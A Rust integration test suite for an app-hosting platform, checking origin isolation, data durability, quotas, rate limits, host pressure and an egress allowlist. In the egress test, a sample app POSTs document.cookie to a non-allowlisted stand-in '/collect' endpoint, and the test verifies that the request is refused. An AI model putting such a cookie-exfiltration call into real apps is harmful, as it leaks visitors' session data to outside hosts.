//! Published apps kept apart and within bounds, on a real Docker engine: an origin per app
//! (`--apps-domain`), seen in Chromium; visitor-scoped data; the SQLite store's durability under
//! SIGKILL and its quota; the seed's API and publish limits.

mod support;

use std::time::{Duration, Instant};

use reqwest::StatusCode;
use serde_json::{json, Value};
use support::published::*;
use support::*;

/// A generated-style app with a shared collection and a visitor-scoped one.
const BOARD_APP: &str = r#"import { useAppData } from '@appbundle/runtime';

type Entry = { id: string; text: string };

export default function TeamBoard() {
  const notes = useAppData('notes');
  const drafts = useAppData('drafts', { scope: 'visitor' });
  const ready = !notes.loading && !drafts.loading;
  return (
    <main className="mx-auto max-w-xl p-6">
      <h1 className="text-2xl font-bold">Team board</h1>
      <div className="flex gap-2">
        <button id="add-note" onClick={() => notes.create({ text: 'shared note' })}>Add note</button>
        <button id="add-draft" onClick={() => drafts.create({ text: 'my draft' })}>Save draft</button>
      </div>
      <ul id="notes">{notes.items.map((n: Entry) => <li key={n.id}>{n.text}</li>)}</ul>
      <ul id="drafts">{drafts.items.map((d: Entry) => <li key={d.id}>{d.text}</li>)}</ul>
      <p id="loaded">{ready ? 'ready' : 'loading'}</p>
    </main>
  );
}
"#;

fn board_files() -> Value {
    json!({ "files": { "App.tsx": BOARD_APP } })
}

/// A client that shows redirects instead of following them.
fn no_redirects() -> reqwest::Client {
    reqwest::Client::builder()
        .no_proxy()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap()
}

/// `GET path` on the service's socket with `Host: host` (the test's resolver need not know
/// `*.apps.localhost`; Chromium does).
async fn get_with_host(base: &str, host: &str, path: &str) -> reqwest::Response {
    no_redirects()
        .get(format!("{base}{path}"))
        .header("host", host)
        .send()
        .await
        .unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn apps_on_origins_of_their_own_cannot_reach_each_other() {
    let (base, _) = apps_server("origins", |apps| {
        apps.apps_domain = Some("apps.localhost".into());
    })
    .await;
    let _cleanup = Cleanup(vec!["board-a".into(), "board-b".into()]);
    let port = base.rsplit(':').next().unwrap().to_string();
    let view = publish_ok(&base, "board-a", board_files()).await;
    let url_a = format!("http://board-a.apps.localhost:{port}/");
    assert_eq!(view["url"], url_a.as_str());
    let published = publish(&base, BOB, "board-b", board_files()).await;
    assert_eq!(published.status(), StatusCode::OK);
    let url_b = format!("http://board-b.apps.localhost:{port}/");

    // The path form redirects to the app's origin, path and query kept.
    let redirected = no_redirects()
        .get(format!("{base}/apps/board-a/api/data/notes?x=1"))
        .send()
        .await
        .unwrap();
    assert_eq!(redirected.status(), StatusCode::PERMANENT_REDIRECT);
    assert_eq!(
        redirected.headers()["location"],
        format!("{url_a}api/data/notes?x=1").as_str()
    );
    // On an app origin, the app answers: its page with its CSP, and no service route.
    let host_a = format!("board-a.apps.localhost:{port}");
    let page = get_with_host(&base, &host_a, "/").await;
    assert_eq!(page.status(), StatusCode::OK);
    let csp = page.headers()["content-security-policy"].to_str().unwrap();
    assert!(csp.contains("connect-src 'self'") && csp.contains("form-action 'self'"));
    assert!(page.headers().get("access-control-allow-origin").is_none());
    assert!(page
        .text()
        .await
        .unwrap()
        .contains("<script src=\"app.js\">"));
    for service_route in ["/metrics", "/openapi.json", "/preview", "/apps"] {
        let answer = get_with_host(&base, &host_a, service_route).await;
        let text = answer.text().await.unwrap();
        assert!(
            !text.contains("appbundle_http_requests_total") && !text.contains("\"openapi\""),
            "{service_route} answered as the service on an app origin: {text:.200}"
        );
    }
    let bare = get_with_host(&base, &format!("apps.localhost:{port}"), "/metrics").await;
    assert_eq!(bare.status(), StatusCode::NOT_FOUND);
    assert!(bare.text().await.unwrap().contains("is no app"));
    // The service still answers on its own host.
    assert_eq!(
        http_get(format!("{base}/healthz")).await.status(),
        StatusCode::OK
    );
    // A browser request from another app (same site, other origin) is refused by the app too.
    let cross = no_redirects()
        .post(format!("{base}/api/data/notes"))
        .header("host", format!("board-b.apps.localhost:{port}"))
        .header("sec-fetch-site", "same-site")
        .json(&json!({ "text": "from board-a" }))
        .send()
        .await
        .unwrap();
    assert_eq!(cross.status(), StatusCode::FORBIDDEN);

    let seen = node_script("isolation-e2e.mjs", vec![url_a.clone(), url_b.clone()]).await;
    assert_eq!(seen["errors"], json!([]), "{seen}");
    assert_eq!(seen["ownNotes"], json!(["shared note"]), "{seen}");
    assert_eq!(seen["ownDrafts"], json!(["my draft"]), "{seen}");
    println!("app A at app B: {}", seen["crossOrigin"]);
    for attempt in seen["crossOrigin"]["attempts"].as_array().unwrap() {
        assert!(
            attempt["outcome"].as_str().unwrap().starts_with("refused"),
            "app A reached app B: {attempt}"
        );
    }
    // Refused by A's CSP, before any request left the page.
    let violations = seen["crossOrigin"]["violations"].as_array().unwrap();
    assert_eq!(violations.len(), 3, "{seen}");
    for violation in violations {
        let text = violation.as_str().unwrap();
        assert!(
            text.starts_with("connect-src http://board-b.apps.localhost"),
            "{text}"
        );
    }
    assert_eq!(seen["storageB"], Value::Null, "{seen}");
    assert_eq!(seen["notesB"], json!([]), "{seen}");
    assert_eq!(seen["otherNotes"], json!(["shared note"]), "{seen}");
    assert_eq!(seen["otherDrafts"], json!([]), "{seen}");
    assert_eq!(seen["draftsAgain"], json!(["my draft"]), "{seen}");
    assert_eq!(
        seen["cookies"],
        json!([{ "name": "appbundle_visitor", "httpOnly": true, "sameSite": "Lax" }])
    );
    // Nothing reached B's store, whatever the page tried.
    let notes_b: Value = get_with_host(
        &base,
        &format!("board-b.apps.localhost:{port}"),
        "/api/data/notes",
    )
    .await
    .json()
    .await
    .unwrap();
    assert_eq!(notes_b, json!([]));
}

/// The item the write loop stores as number `n`: its payload can be checked byte for byte.
fn durable_item(n: usize) -> Value {
    let payload: String = (0..2048)
        .map(|i| (b'a' + ((n + i) % 26) as u8) as char)
        .collect();
    json!({ "id": format!("w{n:06}"), "n": n, "payload": payload })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_acknowledged_write_survives_a_sigkill() {
    let (base, _) = apps_server("durable", |apps| apps.api_per_app_per_minute = 0).await;
    let _cleanup = Cleanup(vec!["durable".into()]);
    publish_ok(&base, "durable", board_files()).await;
    let url = format!("{base}/apps/durable/api/data/log");

    // Writes, one after another, until the container is gone; each 201 is an acknowledgement.
    let writer = {
        let url = url.clone();
        tokio::spawn(async move {
            let client = client();
            let mut acknowledged = Vec::new();
            for n in 0.. {
                let sent = client.post(&url).json(&durable_item(n)).send().await;
                match sent {
                    Ok(response) if response.status() == StatusCode::CREATED => {
                        acknowledged.push(n)
                    }
                    _ => break,
                }
            }
            acknowledged
        })
    };
    tokio::time::sleep(Duration::from_millis(1500)).await;
    let killed = docker(&["kill", "--signal", "KILL", "appbundle-app-durable"]);
    assert!(
        killed.status.success(),
        "{}",
        String::from_utf8_lossy(&killed.stderr)
    );
    let acknowledged = tokio::time::timeout(Duration::from_secs(30), writer)
        .await
        .expect("the writer stops once the app is gone")
        .unwrap();
    assert!(
        acknowledged.len() > 20,
        "only {} writes before the kill",
        acknowledged.len()
    );
    println!("{} writes acknowledged before SIGKILL", acknowledged.len());

    // Started again on the same volume (a republish keeps the data).
    publish_ok(&base, "durable", board_files()).await;
    let items: Vec<Value> = http_get(url).await.json().await.unwrap();
    let stored: std::collections::HashMap<String, &Value> = items
        .iter()
        .map(|item| (item["id"].as_str().unwrap_or_default().to_string(), item))
        .collect();
    for n in &acknowledged {
        let expected = durable_item(*n);
        let id = expected["id"].as_str().unwrap();
        assert_eq!(
            stored.get(id).copied(),
            Some(&expected),
            "acknowledged item {id} is missing or torn after the kill"
        );
    }
    // At most the one write in flight may also have landed, whole.
    assert!(items.len() <= acknowledged.len() + 1);
    for item in &items {
        let n = item["n"].as_u64().unwrap() as usize;
        assert_eq!(item, &durable_item(n), "a torn item");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_data_quota_answers_507_with_the_limit() {
    let (base, _) = apps_server("data-quota", |_| {}).await;
    let _cleanup = Cleanup(vec!["quota-app".into()]);
    publish_ok(&base, "quota-app", board_files()).await;
    // 20 MB by default: 250 KB items until the store says no.
    let url = format!("{base}/apps/quota-app/api/data/files");
    let blob = "q".repeat(250 * 1024);
    let mut stored = 0;
    let quota_answer = loop {
        let response = http_post_json(url.clone(), &json!({ "blob": blob })).await;
        if response.status() != StatusCode::CREATED {
            break response;
        }
        stored += 1;
        assert!(stored < 100, "20 MB took more than 100 items of 250 KB");
    };
    assert_eq!(quota_answer.status(), StatusCode::INSUFFICIENT_STORAGE);
    let text = quota_answer.text().await.unwrap();
    assert!(text.contains("limited to 20.0 MB"), "{text}");
    assert!(
        (78..=82).contains(&stored),
        "{stored} items of 250 KB in 20 MB"
    );
    // Deleting makes room again.
    let items: Vec<Value> = http_get(url.clone()).await.json().await.unwrap();
    let first = items[0]["id"].as_str().unwrap();
    let deleted = client()
        .delete(format!("{url}/{first}"))
        .send()
        .await
        .unwrap();
    assert_eq!(deleted.status(), StatusCode::NO_CONTENT);
    let again = http_post_json(url.clone(), &json!({ "blob": blob })).await;
    assert_eq!(again.status(), StatusCode::CREATED);
    // An item past the item limit is refused as such.
    let huge = http_post_json(url, &json!({ "blob": "h".repeat(300 * 1024) })).await;
    assert_eq!(huge.status(), StatusCode::PAYLOAD_TOO_LARGE);
    assert!(huge.text().await.unwrap().contains("at most 256 KB"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_seed_limits_answer_429_with_their_reason() {
    let (base, _) = apps_server("seed-limits", |apps| {
        apps.api_total_per_minute = 150;
        apps.publishes_per_user_per_hour = 3;
    })
    .await;
    let _cleanup = Cleanup(vec!["burst-app".into(), "third-app".into()]);
    // Publishes per user per hour: alice's fourth is refused before anything is bundled.
    for _ in 0..3 {
        publish_ok(&base, "burst-app", board_files()).await;
    }
    let refused = publish(&base, KEY, "burst-app", board_files()).await;
    assert_eq!(refused.status(), StatusCode::TOO_MANY_REQUESTS);
    assert!(refused.headers().contains_key("retry-after"));
    let text = refused.text().await.unwrap();
    assert!(
        text.contains("published 3 times in the last hour"),
        "{text}"
    );
    assert_eq!(
        publish(&base, BOB, "third-app", board_files())
            .await
            .status(),
        StatusCode::OK
    );

    // 100 API requests per minute per app: burst-app gets its 100, then a 429 for it.
    let burst = format!("{base}/apps/burst-app/api/data/notes");
    for n in 0..100 {
        let response = http_get(burst.clone()).await;
        assert_eq!(response.status(), StatusCode::OK, "request {n}");
    }
    let limited = http_get(burst.clone()).await;
    assert_eq!(limited.status(), StatusCode::TOO_MANY_REQUESTS);
    let wait: u64 = limited.headers()["retry-after"]
        .to_str()
        .unwrap()
        .parse()
        .unwrap();
    assert!((1..=60).contains(&wait), "Retry-After {wait}");
    let text = limited.text().await.unwrap();
    assert!(
        text.contains("app `burst-app` is over its API limit of 100"),
        "{text}"
    );
    // The page itself is not an API request: still served.
    assert_eq!(
        http_get(format!("{base}/apps/burst-app/")).await.status(),
        StatusCode::OK
    );

    // Across apps (150 per minute here): third-app runs into the platform's limit well
    // before its own 100.
    let third = format!("{base}/apps/third-app/api/data/notes");
    let started = Instant::now();
    let mut served = 0;
    let platform = loop {
        let response = http_get(third.clone()).await;
        if response.status() != StatusCode::OK {
            break response;
        }
        served += 1;
        assert!(served < 100, "the platform limit never applied");
    };
    assert_eq!(platform.status(), StatusCode::TOO_MANY_REQUESTS);
    assert!(platform.headers().contains_key("retry-after"));
    let text = platform.text().await.unwrap();
    assert!(
        text.contains("API limit of 150 requests per minute in all"),
        "{text}"
    );
    println!(
        "platform limit after {served} of third-app's requests ({:?})",
        started.elapsed()
    );
}

/// A loopback HTTP server standing in for a public API; counts the requests it gets.
async fn stand_in_api() -> (u16, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    use axum::routing::any;
    let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counter = hits.clone();
    let app = axum::Router::new().fallback(any(move |uri: axum::http::Uri| {
        let counter = counter.clone();
        async move {
            counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            let city = uri
                .query()
                .and_then(|q| q.strip_prefix("city="))
                .unwrap_or("?");
            axum::Json(json!({ "city": city, "high": 14, "path": uri.path() }))
        }
    }));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move { axum::serve(listener, app).await });
    (port, hits)
}

fn weather_app(api: u16, other: u16) -> String {
    format!(
        r#"import {{ useEffect, useState }} from 'react';
import {{ SandboxAPI }} from '@appbundle/runtime';

const FORECAST_API = 'http://127.0.0.1:{api}';
const OTHER_API = 'http://127.0.0.1:{other}';

export default function WeatherCard() {{
  const [forecast, setForecast] = useState('…');
  const [other, setOther] = useState('…');
  useEffect(() => {{
    SandboxAPI.fetch(`${{FORECAST_API}}/v1/forecast?city=Oslo`, {{ headers: {{ accept: 'application/json' }} }})
      .then((response) => response.json())
      .then((data) => setForecast(`${{data.city}}: ${{data.high}}° (${{data.path}})`))
      .catch((error) => setForecast(`error: ${{error.message}}`));
    SandboxAPI.fetch(`${{OTHER_API}}/collect`, {{ method: 'POST', body: document.cookie }})
      .then((response) => setOther(`answered ${{response.status}}`))
      .catch((error) => setOther(`refused: ${{error.message}}`));
  }}, []);
  return (
    <main className="p-6">
      <h1 className="text-xl font-semibold">Weather</h1>
      <p id="forecast">{{forecast}}</p>
      <p id="other">{{other}}</p>
    </main>
  );
}}
"#
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sandbox_fetch_reaches_allowlisted_hosts_only() {
    let (api, api_hits) = stand_in_api().await;
    let (other, other_hits) = stand_in_api().await;
    let (base, _) = apps_server("egress", move |apps| {
        apps.egress_allowed = vec![format!("127.0.0.1:{api}"), "*.example.com".into()];
    })
    .await;
    let _cleanup = Cleanup(vec!["weather".into()]);
    let files = json!({ "files": { "App.tsx": weather_app(api, other) } });

    // An app may only name hosts within the operator's list.
    let mut outside = files.clone();
    outside["egress"] = json!([format!("127.0.0.1:{other}")]);
    let refused = publish(&base, KEY, "weather", outside).await;
    assert_eq!(refused.status(), StatusCode::FORBIDDEN);
    assert!(refused
        .text()
        .await
        .unwrap()
        .contains("service's egress allowlist"));

    let mut body = files.clone();
    body["egress"] = json!([format!("127.0.0.1:{api}")]);
    let view = publish_ok(&base, "weather", body).await;
    assert_eq!(view["egress"], json!([format!("127.0.0.1:{api}")]));

    let seen = node_script(
        "page-texts.mjs",
        vec![
            format!("{base}/apps/weather/"),
            "#forecast".into(),
            "#other".into(),
        ],
    )
    .await;
    assert_eq!(seen["errors"], json!([]), "{seen}");
    assert_eq!(
        seen["texts"]["#forecast"], "Oslo: 14° (/v1/forecast)",
        "{seen}"
    );
    let other_text = seen["texts"]["#other"].as_str().unwrap();
    assert!(
        other_text.starts_with("refused: ")
            && other_text.contains(&format!(
                "`127.0.0.1` is not in app `weather`'s egress allowlist (127.0.0.1:{api})"
            )),
        "{other_text}"
    );
    assert_eq!(api_hits.load(std::sync::atomic::Ordering::SeqCst), 1);
    assert_eq!(other_hits.load(std::sync::atomic::Ordering::SeqCst), 0);

    // The same through the API directly, and the count in /metrics.
    let direct = http_post_json(
        format!("{base}/apps/weather/api/egress"),
        &json!({ "url": format!("http://127.0.0.1:{other}/x") }),
    )
    .await;
    assert_eq!(direct.status(), StatusCode::FORBIDDEN);
    let metrics = http_get(format!("{base}/metrics"))
        .await
        .text()
        .await
        .unwrap();
    assert!(
        metrics.contains("appbundle_app_egress_total{outcome=\"forwarded\"} 1"),
        "{metrics}"
    );
    assert!(metrics.contains("appbundle_app_egress_total{outcome=\"refused\"} 2"));
    assert_eq!(other_hits.load(std::sync::atomic::Ordering::SeqCst), 0);
}

/// Polls `/metrics` until the host-pressure gauge reads `value`.
async fn wait_for_pressure(base: &str, value: u8) -> String {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let metrics = http_get(format!("{base}/metrics"))
            .await
            .text()
            .await
            .unwrap();
        let wanted = format!("appbundle_host_under_pressure {value}");
        if metrics.lines().any(|line| line == wanted) {
            return metrics;
        }
        assert!(
            Instant::now() < deadline,
            "pressure never read {value}: {metrics}"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn new_starts_get_503_while_the_host_is_under_pressure() {
    // A simulated small host: 4 MB for all apps, so one real app server is over 80 % of it.
    let (base, _) = apps_server("pressure", |apps| {
        apps.host_capacity = Some(appbundle_api::apps::pressure::HostCapacity {
            cpus: 2.0,
            memory_bytes: 4 << 20,
        });
        apps.pressure_interval = Duration::from_secs(1);
    })
    .await;
    let _cleanup = Cleanup(vec!["busy-a".into(), "busy-b".into()]);
    publish_ok(&base, "busy-a", board_files()).await;
    let metrics = wait_for_pressure(&base, 1).await;
    let memory_line = metrics
        .lines()
        .find(|l| l.starts_with("appbundle_apps_host_usage_ratio{resource=\"memory\"}"))
        .unwrap();
    println!("under pressure: {memory_line}");

    let refused = publish(&base, BOB, "busy-b", board_files()).await;
    assert_eq!(refused.status(), StatusCode::SERVICE_UNAVAILABLE);
    assert_eq!(refused.headers()["retry-after"], "1");
    let text = refused.text().await.unwrap();
    assert!(
        text.contains("the host is under pressure") && text.contains("over 80 %"),
        "{text}"
    );
    // The running app keeps serving.
    assert_eq!(
        http_get(format!("{base}/apps/busy-a/")).await.status(),
        StatusCode::OK
    );

    // Usage falls (the app is deleted): starts resume.
    assert_eq!(
        delete_app(&base, "busy-a").await.status(),
        StatusCode::NO_CONTENT
    );
    wait_for_pressure(&base, 0).await;
    assert_eq!(
        publish(&base, BOB, "busy-b", board_files()).await.status(),
        StatusCode::OK
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_older_apps_json_collections_are_imported_on_first_start() {
    let (base, _) = apps_server("legacy", |_| {}).await;
    let _cleanup = Cleanup(vec!["legacy".into()]);
    // The volume as the first store left it: one JSON array per collection.
    let image = prepared_image().await.tag().unwrap();
    let notes = r#"[{"id":"n1","text":"kept from the JSON store"},{"id":"n2","text":"second","tags":["a"]}]"#;
    let script = format!(
        "mkdir -p /data/collections && printf '%s' '{notes}' > /data/collections/notes.json"
    );
    let written = docker(&[
        "run",
        "--rm",
        "--network",
        "none",
        "--user",
        "10001:10001",
        "-v",
        "appbundle-data-legacy:/data",
        &image,
        "/bin/sh",
        "-c",
        &script,
    ]);
    assert!(
        written.status.success(),
        "{}",
        String::from_utf8_lossy(&written.stderr)
    );

    publish_ok(&base, "legacy", board_files()).await;
    let items: Value = http_get(format!("{base}/apps/legacy/api/data/notes"))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(items, serde_json::from_str::<Value>(notes).unwrap());
    // Written on as usual, and the old files kept aside.
    let created = http_post_json(
        format!("{base}/apps/legacy/api/data/notes"),
        &json!({ "text": "new" }),
    )
    .await;
    assert_eq!(created.status(), StatusCode::CREATED);
    let listing = exec(
        "legacy",
        &["sh", "-c", "ls /data /data/collections.imported"],
    );
    let listing = String::from_utf8_lossy(&listing.stdout);
    assert!(
        listing.contains("app.db") && listing.contains("notes.json"),
        "{listing}"
    );
    assert!(!listing.lines().any(|l| l == "collections"), "{listing}");
}
